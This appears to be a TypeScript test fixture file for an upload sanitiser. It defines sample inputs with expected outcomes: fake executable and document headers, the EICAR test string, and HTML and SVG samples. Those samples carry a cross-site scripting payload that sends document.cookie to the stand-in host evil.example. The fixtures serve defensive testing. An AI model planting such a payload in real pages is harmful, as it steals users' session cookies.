import type { Fault } from '../inspection/kinds.ts'
import type { Packed } from './archive.ts'

/** What somebody tries, and what has to come of it: a refusal, or the media type of what is left when it was cleaned. */
export type Attempt = { what: string; name: string; bytes: Buffer; outcome: Fault | `${string}/${string}` }

export const text = (words: string) => Buffer.from(words)
export const script = '<script>fetch("https://evil.example/?"+document.cookie)</script>'
export const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`
export const html = `<!doctype html><html><body>${script}</body></html>`
export const cfb = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2_000)])
export const exe = Buffer.concat([text('MZ'), Buffer.alloc(200, 1)])
export const elf = Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(200)])
export const xml = text('<?xml version="1.0"?><x/>')
export const eicar = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
export const part = (name: string, bytes: Buffer = xml): Packed => ({ name, bytes })
